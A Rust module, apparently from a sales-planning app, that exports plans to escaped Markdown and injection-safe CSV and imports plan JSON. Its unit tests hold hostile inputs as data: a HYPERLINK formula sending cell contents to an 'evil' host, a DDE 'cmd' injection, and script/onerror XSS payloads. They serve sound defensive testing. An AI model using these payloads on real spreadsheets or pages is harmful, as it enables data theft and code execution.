//! The plan outside the app: the one-page Markdown a champion forwards internally, the
//! milestones as CSV, and the import of an exported plan (its JSON) into a new document.
//!
//! Exports are inert: every piece of user text is escaped for where it lands, because the
//! Markdown is pasted into wikis and mail and the CSV opened in spreadsheets. In Markdown no
//! user text can make HTML, a link, an image or a heading; the one-pager emits no links of its
//! own. In CSV no user cell can start a formula.

use std::collections::BTreeMap;
use std::fmt::Write as _;

use serde_json::Value;
use yrs::{
    Any, Array as _, ArrayPrelim, Doc, Map as _, MapPrelim, ReadTxn as _, Transact as _,
    WriteTxn as _,
};

use crate::health::{Health, Verdict};
use crate::judgments::{Judgment, Judgments, judgments_update};
use crate::model::{Plan, Status};
use crate::{FirstUpdates, NewPlan, NewPlanError, field_value, format_date, schema};

/// One moved date, as the exports list it.
#[derive(Debug, Clone)]
pub struct MovedDate {
    /// The milestone's title, or `None` for go-live.
    pub subject: Option<String>,
    pub milestone_id: Option<String>,
    pub from: String,
    pub to: Option<String>,
    pub days: Option<i64>,
    pub reason: Option<String>,
    pub who: String,
    /// `YYYY-MM-DD` of the move.
    pub on: String,
}

fn text(value: Option<&str>) -> &str {
    value.unwrap_or("")
}

/// User text inside one line of Markdown (a heading, a table cell, a list item): on one line,
/// HTML characters as entities, and every character that could start a link, an image, code,
/// emphasis or a table cell backslash-escaped, so it renders as the text it is.
fn inline(value: &str) -> String {
    let mut out = String::with_capacity(value.len());
    for c in value.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '\\' | '`' | '*' | '_' | '[' | ']' | '|' | '~' => {
                out.push('\\');
                out.push(c);
            }
            '\n' | '\r' | '\t' => out.push(' '),
            c if c.is_control() => {}
            c => out.push(c),
        }
    }
    out
}

/// User text as paragraphs: [`inline`] per line, and what would start a block at the beginning
/// of a line (a heading, a quote, a list item, a rule) escaped.
fn paragraph(value: &str) -> String {
    let lines: Vec<String> = value
        .lines()
        .map(|line| {
            let escaped = inline(line.trim());
            let digits = escaped.chars().take_while(char::is_ascii_digit).count();
            match escaped.as_bytes().get(digits) {
                Some(b'.' | b')') if digits > 0 => {
                    format!("{}\\{}", &escaped[..digits], &escaped[digits..])
                }
                Some(b'#' | b'-' | b'+' | b'=') if digits == 0 => format!("\\{escaped}"),
                _ => escaped,
            }
        })
        .collect();
    lines.join("\n")
}

/// Health in words, as the one-pager and the read view say it: the verdict, its reasons, and the
/// counts behind them.
fn health_words(health: &Health) -> String {
    let verdict = match health.verdict {
        Verdict::OnTrack => "On track",
        Verdict::AtRisk => "At risk",
        Verdict::OffTrack => "Off track",
    };
    let mut out = format!("**{verdict}**");
    if !health.reasons.is_empty() {
        let reasons: Vec<String> = health.reasons.iter().map(|r| inline(r)).collect();
        let _ = write!(out, ": {}", reasons.join("; "));
    }
    let _ = write!(
        out,
        ".\n\n{} overdue · {} due this week · {} blocked",
        health.overdue.len(),
        health.due_soon.len(),
        health.blocked.len()
    );
    if let Some(slack) = health.critical_path.slack_days {
        let _ = write!(out, " · {slack} days to spare before go-live");
    }
    out
}

/// The one-page plan: objective, go-live and why, health in words (when given), milestones by
/// workstream with owners and dates, stakeholders, what matters in the decision (with the
/// buyer's words), risks, success, and every moved date.
pub fn markdown(plan: &Plan, moves: &[MovedDate], health: Option<&Health>) -> String {
    let mut out = String::new();
    let meta = &plan.meta;
    let _ = writeln!(out, "# {}\n", inline(text(meta.title.as_deref())));
    let _ = writeln!(
        out,
        "**{}** and **{}** · go-live **{}**\n",
        inline(text(meta.buyer_org.as_deref())),
        inline(text(meta.seller_org.as_deref())),
        meta.go_live
            .map(format_date)
            .unwrap_or_else(|| "not set".into())
    );
    if let Some(objective) = &meta.objective {
        let _ = writeln!(out, "## Objective\n\n{}\n", paragraph(objective));
    }
    if let Some(reason) = &meta.go_live_reason {
        let _ = writeln!(out, "## Why this date\n\n{}\n", paragraph(reason));
    }
    if let Some(cost) = &meta.cost_of_inaction {
        let _ = writeln!(out, "## Cost of doing nothing\n\n{}\n", paragraph(cost));
    }
    if let Some(health) = health {
        let _ = writeln!(
            out,
            "## How the plan is doing\n\n{}\n",
            health_words(health)
        );
    }
    if !plan.objectives.is_empty() {
        let _ = writeln!(
            out,
            "## How we will measure it\n\n| Goal | Metric | Today | Target |\n| --- | --- | --- | --- |"
        );
        for o in &plan.objectives {
            let _ = writeln!(
                out,
                "| {} | {} | {} | {} |",
                inline(text(o.text.as_deref())),
                inline(text(o.metric.as_deref())),
                inline(text(o.baseline.as_deref())),
                inline(text(o.target.as_deref()))
            );
        }
        out.push('\n');
    }
    let mut workstreams: BTreeMap<usize, (String, Vec<&crate::model::Milestone>)> = BTreeMap::new();
    let mut order: Vec<String> = Vec::new();
    for milestone in &plan.milestones {
        let name = milestone
            .workstream
            .clone()
            .unwrap_or_else(|| "other".into());
        let index = order.iter().position(|w| *w == name).unwrap_or_else(|| {
            order.push(name.clone());
            order.len() - 1
        });
        workstreams
            .entry(index)
            .or_insert_with(|| (name, Vec::new()))
            .1
            .push(milestone);
    }
    if !workstreams.is_empty() {
        let _ = writeln!(out, "## Milestones");
        for (name, milestones) in workstreams.values() {
            let _ = writeln!(
                out,
                "\n### {}\n\n| Due | Step | Side | Owner | Status |\n| --- | --- | --- | --- | --- |",
                workstream_words(name)
            );
            for m in milestones {
                let _ = writeln!(
                    out,
                    "| {} | {} | {} | {} | {} |",
                    m.due.map(format_date).unwrap_or_default(),
                    inline(text(m.title.as_deref())),
                    m.side.map(|s| s.as_str()).unwrap_or_default(),
                    inline(
                        m.owner
                            .as_ref()
                            .map(|o| o.name.as_str())
                            .unwrap_or_default()
                    ),
                    m.status
                        .map(|s| s.as_str().replace('_', " "))
                        .unwrap_or_default()
                );
            }
        }
        out.push('\n');
    }
    if !plan.stakeholders.is_empty() {
        let _ = writeln!(
            out,
            "## Who is involved\n\n| Name | Title | Side | Role |\n| --- | --- | --- | --- |"
        );
        for s in &plan.stakeholders {
            let _ = writeln!(
                out,
                "| {} | {} | {} | {} |",
                inline(text(s.name.as_deref())),
                inline(text(s.title.as_deref())),
                s.side.map(|v| v.as_str()).unwrap_or_default(),
                s.role
                    .map(|v| v.as_str().replace('_', " "))
                    .unwrap_or_default(),
            );
        }
        out.push('\n');
    }
    if !plan.criteria.is_empty() {
        let _ = writeln!(out, "## What matters in the decision\n");
        for c in &plan.criteria {
            let _ = write!(out, "- **{}**", inline(text(c.text.as_deref())));
            if let Some(priority) = c.priority {
                let _ = write!(out, " ({})", priority.as_str());
            }
            if let Some(quote) = &c.quote {
                let _ = write!(out, ": “{}”", inline(quote));
            }
            if let Some(source) = &c.source {
                let _ = write!(out, " — {}", inline(source));
            }
            out.push('\n');
        }
        out.push('\n');
    }
    if !plan.risks.is_empty() {
        let _ = writeln!(out, "## Risks\n");
        for r in &plan.risks {
            let _ = writeln!(
                out,
                "- **{}** ({}): {}",
                inline(text(r.text.as_deref())),
                r.status.map(|s| s.as_str()).unwrap_or("open"),
                inline(text(r.mitigation.as_deref()))
            );
        }
        out.push('\n');
    }
    if plan.success.definition.is_some() {
        let _ = writeln!(
            out,
            "## What success looks like\n\n{}\n",
            paragraph(text(plan.success.definition.as_deref()))
        );
    }
    let _ = writeln!(out, "## Date changes\n");
    if moves.is_empty() {
        let _ = writeln!(out, "No date has moved.");
    }
    for m in moves {
        let days = m
            .days
            .map_or("cleared".to_owned(), |d| format!("{d:+} days"));
        let _ = writeln!(
            out,
            "- {}: **{}** {} → {} ({days}) by {}{}",
            inline(&m.on),
            m.subject.as_deref().map_or("Go-live".to_owned(), inline),
            inline(&m.from),
            m.to.as_deref().map_or("no date".to_owned(), inline),
            inline(&m.who),
            m.reason
                .as_deref()
                .map(|r| format!(": “{}”", inline(r)))
                .unwrap_or_default()
        );
    }
    out
}

fn workstream_words(name: &str) -> String {
    let known = [
        ("technical_validation", "Technical validation"),
        ("security_compliance", "Security & compliance"),
        ("business_case", "Business case"),
        ("legal_procurement", "Legal & procurement"),
        ("implementation", "Implementation"),
    ];
    known
        .iter()
        .find(|(k, _)| *k == name)
        .map_or_else(|| inline(name), |(_, w)| (*w).to_owned())
}

/// A CSV cell of user text: one that a spreadsheet would read as a formula (it starts with
/// `=`, `+`, `-`, `@`, a tab or a carriage return) gets a leading `'` (OWASP's rule against CSV
/// injection), so it is shown as text and never evaluated. Values the export makes itself
/// (dates, counts, negative day totals) are not passed through this.
pub fn csv_text(value: &str) -> String {
    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{value}")
    } else {
        value.to_owned()
    }
}

/// A CSV field (RFC 4180): quoted when it holds a comma, quote or line break.
pub fn csv_field(value: &str) -> String {
    if value.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", value.replace('"', "\"\""))
    } else {
        value.to_owned()
    }
}

/// The milestones as CSV (RFC 4180, CRLF line ends), one row each in display order, with how
/// often and how far each date moved.
pub fn milestones_csv(plan: &Plan, moves: &[MovedDate]) -> String {
    let mut out = String::from(
        "id,workstream,title,side,owner,due,status,depends_on,times_moved,days_moved,notes\r\n",
    );
    for m in &plan.milestones {
        let mine: Vec<_> = moves
            .iter()
            .filter(|d| d.milestone_id.as_deref() == Some(m.id.as_str()))
            .collect();
        let days: i64 = mine.iter().filter_map(|d| d.days).sum();
        // User text goes through `csv_text`; side, due, status and the counts are the export's.
        let fields = [
            csv_text(&m.id),
            csv_text(m.workstream.as_deref().unwrap_or_default()),
            csv_text(m.title.as_deref().unwrap_or_default()),
            m.side.map(|s| s.as_str().to_owned()).unwrap_or_default(),
            csv_text(
                m.owner
                    .as_ref()
                    .map(|o| o.name.as_str())
                    .unwrap_or_default(),
            ),
            m.due.map(format_date).unwrap_or_default(),
            m.status.unwrap_or(Status::NotStarted).as_str().to_owned(),
            csv_text(&m.depends_on.join(" ")),
            mine.len().to_string(),
            days.to_string(),
            csv_text(m.notes.as_deref().unwrap_or_default()),
        ];
        let row: Vec<_> = fields.iter().map(|f| csv_field(f)).collect();
        out.push_str(&row.join(","));
        out.push_str("\r\n");
    }
    out
}

/// Why an exported plan cannot be imported.
#[derive(Debug, thiserror::Error)]
pub enum ImportError {
    #[error("`plan` is missing or not an object")]
    NoPlan,
    #[error("`plan.{0}` must be {1}")]
    Shape(String, &'static str),
    #[error(transparent)]
    Meta(#[from] NewPlanError),
}

/// The fields of each collection as the projected plan names them (camelCase) and as the
/// document stores them (the same names, see `schema`).
const COLLECTION_FIELDS: [(&str, &[&str]); 5] = [
    (
        schema::OBJECTIVES,
        &["text", "metric", "baseline", "target", "order"],
    ),
    (
        schema::STAKEHOLDERS,
        &["name", "title", "side", "role", "notes", "order"],
    ),
    (
        schema::MILESTONES,
        &[
            "title",
            "workstream",
            "side",
            "due",
            "status",
            "notes",
            "slipReason",
            "order",
        ],
    ),
    (
        schema::CRITERIA,
        &["text", "quote", "source", "priority", "order"],
    ),
    (
        schema::RISKS,
        &[
            "text",
            "kind",
            "likelihood",
            "impact",
            "mitigation",
            "owner",
            "status",
            "order",
        ],
    ),
];
const META_FIELDS: [&str; 8] = [
    "title",
    "buyerOrg",
    "sellerOrg",
    "goLive",
    "goLiveReason",
    "goLiveSlipReason",
    "costOfInaction",
    "objective",
];
const SUCCESS_FIELDS: [&str; 2] = ["definition", "metrics"];

/// Builds a new plan's first updates from an exported plan (`plan` of the JSON export, the
/// projected plan's shape, of format `mapline.plan.v1` or `.v2`), written in schema v2: prose as
/// `Y.Text`, `meta.schemaVersion` 2. Entries keep their ids, so links between them (owners,
/// dependencies) survive. The meta fields are checked as for a new plan. A stakeholder's seller
/// judgments (`power`, `engagement` of either format, `privateNotes` of a seller's v2 export)
/// go to the internal document's update, never to the plan's.
pub fn import(export: &Value, client_id: u64) -> Result<(NewPlan, FirstUpdates), ImportError> {
    let plan = export
        .get("plan")
        .and_then(Value::as_object)
        .ok_or(ImportError::NoPlan)?;
    let meta = plan
        .get("meta")
        .and_then(Value::as_object)
        .ok_or_else(|| ImportError::Shape("meta".into(), "an object"))?;
    let field = |name: &str| meta.get(name).and_then(Value::as_str).unwrap_or("");
    let new_plan = NewPlan::parse(
        field("title"),
        field("buyerOrg"),
        field("sellerOrg"),
        field("goLive"),
    )?;
    let doc = Doc::with_client_id(client_id);
    let mut judgments = Judgments::new();
    {
        let mut txn = doc.transact_mut();
        let root = txn.get_or_insert_map(schema::META);
        for name in META_FIELDS {
            if let Some(value) = meta.get(name).and_then(Value::as_str) {
                root.insert(&mut txn, name, field_value(schema::META, name, value));
            }
        }
        root.insert(
            &mut txn,
            schema::meta::SCHEMA_VERSION,
            Any::from(i64::from(schema::SCHEMA_VERSION)),
        );
        if let Some(success) = plan.get("success").and_then(Value::as_object) {
            let root = txn.get_or_insert_map(schema::SUCCESS);
            for name in SUCCESS_FIELDS {
                if let Some(value) = success.get(name).and_then(Value::as_str) {
                    root.insert(&mut txn, name, field_value(schema::SUCCESS, name, value));
                }
            }
        }
        for (collection, fields) in COLLECTION_FIELDS {
            let entries = match plan.get(collection) {
                None | Some(Value::Null) => continue,
                Some(Value::Array(entries)) => entries,
                Some(_) => return Err(ImportError::Shape(collection.into(), "a list")),
            };
            let root = txn.get_or_insert_map(collection);
            for entry in entries {
                let Some(id) = entry
                    .get("id")
                    .and_then(Value::as_str)
                    .filter(|id| !id.is_empty())
                else {
                    return Err(ImportError::Shape(
                        format!("{collection}[].id"),
                        "a non-empty string",
                    ));
                };
                let map = root.insert(&mut txn, id, MapPrelim::default());
                for name in fields {
                    if let Some(value) = entry.get(*name).and_then(Value::as_str) {
                        map.insert(&mut txn, *name, field_value(collection, name, value));
                    }
                }
                if collection == schema::STAKEHOLDERS
                    && let Some(fields) = entry.as_object()
                {
                    let judgment = Judgment::from_fields(fields, "privateNotes");
                    if !judgment.is_empty() {
                        judgments.insert(id.to_owned(), judgment);
                    }
                }
                if collection == schema::MILESTONES {
                    // The owner: the stakeholder's id when it is one, else the person's name.
                    if let Some(owner) = entry.get("owner").filter(|o| !o.is_null()) {
                        let by_id = owner.get("stakeholderId").and_then(Value::as_str);
                        let name = owner.get("name").and_then(Value::as_str);
                        if let Some(owner) = by_id.or(name) {
                            map.insert(&mut txn, "owner", owner);
                        }
                    }
                    let deps: Vec<Any> = entry
                        .get("dependsOn")
                        .and_then(Value::as_array)
                        .map(|d| d.iter().filter_map(Value::as_str).map(Any::from).collect())
                        .unwrap_or_default();
                    let array = map.insert(&mut txn, "dependsOn", ArrayPrelim::default());
                    for dep in deps {
                        array.push_back(&mut txn, dep);
                    }
                }
            }
        }
    }
    let update = doc
        .transact()
        .encode_state_as_update_v1(&yrs::StateVector::default());
    let internal = judgments_update(&judgments, client_id);
    Ok((
        new_plan,
        FirstUpdates {
            plan: update,
            internal,
        },
    ))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;
    use yrs::updates::decoder::Decode as _;

    #[test]
    fn csv_fields_are_quoted_only_when_they_must_be() {
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
    }

    #[test]
    fn csv_cells_that_a_spreadsheet_would_evaluate_start_with_a_quote() {
        let check = |input: &str, expected: &str| assert_eq!(csv_field(&csv_text(input)), expected);
        check(
            "=HYPERLINK(\"http://evil\"&A1,\"Click\")",
            "\"'=HYPERLINK(\"\"http://evil\"\"&A1,\"\"Click\"\")\"",
        );
        check("=1+2", "'=1+2");
        check("+1", "'+1");
        check("-2+3", "'-2+3");
        check("@SUM(A1)", "'@SUM(A1)");
        check("\tcmd", "'\tcmd");
        check("\r=cmd", "\"'\r=cmd\"");
        check("plain = text", "plain = text");
        check("a-b", "a-b");
        check("", "");
    }

    fn plan_with(title: &str, notes: &str) -> Plan {
        let mut plan = Plan::default();
        plan.meta.title = Some(title.to_owned());
        plan.meta.objective = Some(notes.to_owned());
        plan.milestones.push(crate::model::Milestone {
            id: "m1".into(),
            title: Some(title.to_owned()),
            workstream: Some(title.to_owned()),
            side: None,
            owner: None,
            due: None,
            status: None,
            depends_on: Vec::new(),
            notes: Some(notes.to_owned()),
            slip_reason: None,
            order: None,
        });
        plan
    }

    #[test]
    fn the_one_pager_carries_criteria_with_their_quotes_and_health_in_words_escaped() {
        let mut plan = plan_with("Rollout", "Cut ramp time");
        plan.meta.go_live = chrono::NaiveDate::from_ymd_opt(2027, 4, 1);
        plan.criteria.push(crate::model::Criterion {
            id: "c1".into(),
            text: Some("SSO *day one*".into()),
            quote: Some("No Okta, no deal <b>".into()),
            source: Some("CISO".into()),
            priority: Some(crate::model::Priority::Must),
            order: None,
        });
        let today = chrono::NaiveDate::from_ymd_opt(2027, 1, 4).expect("a date");
        let activity = crate::Activity {
            original_go_live: plan.meta.go_live,
            last_update: Some(today),
            slips: &[],
        };
        let health = crate::health(&plan, today, &activity);
        let md = markdown(&plan, &[], Some(&health));
        assert!(
            md.contains(
                "## What matters in the decision\n\n- **SSO \\*day one\\*** (must): “No Okta, no deal &lt;b&gt;” — CISO\n"
            ),
            "{md}"
        );
        assert!(md.contains("## How the plan is doing\n\n**"), "{md}");
        assert!(
            md.contains("0 overdue · 0 due this week · 0 blocked"),
            "{md}"
        );
        assert!(!markdown(&plan, &[], None).contains("How the plan is doing"));
    }

    #[test]
    fn the_csv_export_quotes_user_text_but_not_its_own_numbers() {
        let plan = plan_with("=cmd|' /C calc'!A0", "-notes");
        let moves = [MovedDate {
            subject: None,
            milestone_id: Some("m1".into()),
            from: "2027-05-01".into(),
            to: Some("2027-04-20".into()),
            days: Some(-11),
            reason: None,
            who: "x".into(),
            on: "2027-04-01".into(),
        }];
        let csv = milestones_csv(&plan, &moves);
        let row = csv.lines().nth(1).unwrap();
        assert_eq!(
            row,
            "m1,'=cmd|' /C calc'!A0,'=cmd|' /C calc'!A0,,,,not_started,,1,-11,'-notes"
        );
    }

    #[test]
    fn markdown_user_text_is_inert() {
        let check = |input: &str, expected: &str| assert_eq!(inline(input), expected, "{input:?}");
        check(
            "<img src=x onerror=alert(1)>",
            "&lt;img src=x onerror=alert(1)&gt;",
        );
        check(
            "[click](javascript:alert(1))",
            "\\[click\\](javascript:alert(1))",
        );
        check("![x](http://t/p.png)", "!\\[x\\](http://t/p.png)");
        check("a | b", "a \\| b");
        check(
            "**bold** _em_ `code` ~~s~~",
            "\\*\\*bold\\*\\* \\_em\\_ \\`code\\` \\~\\~s\\~\\~",
        );
        check("AT&T \\ two\nlines", "AT&amp;T \\\\ two lines");
        check("Ann (CFO), 45 days.", "Ann (CFO), 45 days.");
        let para =
            |input: &str, expected: &str| assert_eq!(paragraph(input), expected, "{input:?}");
        para(
            "# not a heading\n- not a list\n1. not ordered\n> no quote",
            "\\# not a heading\n\\- not a list\n1\\. not ordered\n&gt; no quote",
        );
        para("+ x\n===\n  ## indented", "\\+ x\n\\===\n\\## indented");
        para(
            "Cut ramp time from 90 to 45 days",
            "Cut ramp time from 90 to 45 days",
        );
    }

    #[test]
    fn the_markdown_export_has_no_html_and_no_links_from_user_text() {
        let plan = plan_with(
            "<img src=x onerror=alert(1)>",
            "[click](javascript:alert(1)) <script>x</script>\n# Heading",
        );
        let md = markdown(&plan, &[], None);
        assert!(!md.contains('<'), "{md}");
        // Brackets only escaped: nothing can close a link text.
        assert!(!md.replace("\\]", "").contains(']'), "{md}");
        assert!(
            md.contains("# &lt;img src=x onerror=alert(1)&gt;\n"),
            "{md}"
        );
        assert!(
            md.contains(
                "\\[click\\](javascript:alert(1)) &lt;script&gt;x&lt;/script&gt;\n\\# Heading"
            ),
            "{md}"
        );
    }

    fn check_import_moves_judgments(stakeholder: Value, expected: crate::Judgment) {
        let export = json!({ "plan": { "meta": { "title": "T", "buyerOrg": "B", "sellerOrg": "S",
            "goLive": "2027-04-01" }, "stakeholders": [stakeholder] } });
        let (_, updates) = import(&export, 7).unwrap();
        let shared = crate::tests::apply(&updates.plan);
        let stakeholders = shared.get_or_insert_map(schema::STAKEHOLDERS);
        let raw = serde_json::to_string(&crate::raw::to_json(
            &shared.transact(),
            yrs::Out::YMap(stakeholders),
        ))
        .unwrap();
        assert!(
            !raw.contains("power") && !raw.contains("engagement"),
            "{raw}"
        );
        assert!(!raw.contains("blocker") && !raw.contains("dark"), "{raw}");
        assert!(
            !raw.contains("privateNotes") && !raw.contains("Sealed"),
            "{raw}"
        );
        assert!(raw.contains("Shared note"), "{raw}");
        let internal = crate::tests::apply(updates.internal.as_deref().expect("judgments"));
        let judgments = crate::read_judgments(&internal.transact());
        assert_eq!(judgments.get("st-a"), Some(&expected));
    }

    #[test]
    fn importing_an_export_moves_its_judgments_to_the_internal_document() {
        use crate::model::{Engagement, Power};
        // A v1 export: the judgments were fields of the shared stakeholder.
        check_import_moves_judgments(
            json!({ "id": "st-a", "name": "Ann", "notes": "Shared note", "power": "blocker",
                "engagement": "dark" }),
            crate::Judgment {
                power: Some(Power::Blocker),
                engagement: Some(Engagement::Dark),
                private_notes: None,
            },
        );
        // A seller's v2 export: merged in, with the private notes.
        check_import_moves_judgments(
            json!({ "id": "st-a", "name": "Ann", "notes": "Shared note", "power": "blocker",
                "engagement": null, "privateNotes": "Sealed" }),
            crate::Judgment {
                power: Some(Power::Blocker),
                engagement: None,
                private_notes: Some("Sealed".into()),
            },
        );
    }

    #[test]
    fn an_import_needs_valid_meta_and_well_formed_collections() {
        let meta =
            json!({ "title": "T", "buyerOrg": "B", "sellerOrg": "S", "goLive": "2027-04-01" });
        let ok = json!({ "plan": { "meta": meta, "milestones": [{ "id": "m1", "title": "Kickoff",
            "owner": { "stakeholderId": "st-a", "name": "Ann" }, "dependsOn": ["m0"] }] } });
        let (plan, update) = import(&ok, 7).unwrap();
        assert_eq!(plan.title, "T");
        assert_eq!(update.internal, None, "no judgments, no internal update");
        let doc = Doc::new();
        let update = yrs::Update::decode_v1(&update.plan).unwrap();
        doc.transact_mut().apply_update(update).unwrap();
        let projected = crate::project_doc(&doc);
        let m = projected.milestone("m1").unwrap();
        assert_eq!(
            m.owner.as_ref().and_then(|o| o.stakeholder_id.as_deref()),
            Some("st-a")
        );
        assert!(matches!(import(&json!({}), 7), Err(ImportError::NoPlan)));
        let bad_date = json!({ "plan": { "meta": { "title": "T", "buyerOrg": "B", "sellerOrg": "S", "goLive": "soon" } } });
        assert!(matches!(import(&bad_date, 7), Err(ImportError::Meta(_))));
        let not_list = json!({ "plan": { "meta": meta, "risks": {} } });
        assert!(matches!(import(&not_list, 7), Err(ImportError::Shape(..))));
    }
}
